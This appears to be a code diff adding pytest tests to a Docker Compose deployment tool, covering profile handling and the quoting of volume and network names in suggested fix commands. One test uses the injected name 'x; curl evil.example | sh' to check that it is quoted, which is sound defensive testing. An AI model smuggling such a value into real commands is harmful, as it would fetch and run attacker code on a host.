@@ -11,9 +11,11 @@ from typing import Any
 import pytest
 
 from gpuhost.runner.docker.compose import config
+from gpuhost.runner.docker.resolved_model import Model
 from gpuhost.runner.lib.failure import Failure
 from gpuhost.runner.lib.files import write_json
 from gpuhost.runner.plan import Directory, Secret, Verify
+from gpuhost.runner.resolved.external import refuse_missing
 from gpuhost.runner.stages.render import render, write_host_files
 from gpuhost.runner.stages.rollback import prepare
 from gpuhost.runner.state.release import Release
@@ -334,6 +336,29 @@ def test_external_volumes_are_looked_for_on_the_host(app: App, programs: Program
         render(release)
     programs.answer("docker volume ls *", "other\nold_data\n")
     render(release)
+
+
+def test_a_profile_with_the_name_of_gpuhosts_own_hides_no_service(
+    app: App, programs: Programs
+) -> None:
+    release = a_release(app)
+    (release.source / "x").mkdir()
+    (release.source / "x/file").write_text("")
+    mount = {"type": "bind", "source": str(release.source / "x"), "target": "/x"}
+    web = {"profiles": ["prod", "gpuhost-left-out"], "volumes": [mount]}
+    programs.answer("docker compose * json", json.dumps({"services": {"web": web}}))
+    render(release)
+    assert "profiles" not in json.loads(release.paths.runs.read_text())["services"]["web"]
+
+
+@pytest.mark.parametrize("kind", ["volume", "network"])
+def test_names_of_the_author_in_a_command_are_quoted(kind: str) -> None:
+    name = "x; curl evil.example | sh"
+    model: Model = {f"{kind}s": {"a": {"name": name, "external": True}, "b": {"external": True}}}
+    with pytest.raises(Failure) as failure:
+        refuse_missing(model, kind, ())
+    commands = f"docker {kind} create '{name}'; docker {kind} create b"
+    assert failure.value.fix == f"on the host: {commands}"
 
 
 def test_an_interruption_while_compose_was_asked_leaves_no_secret_in_the_source(
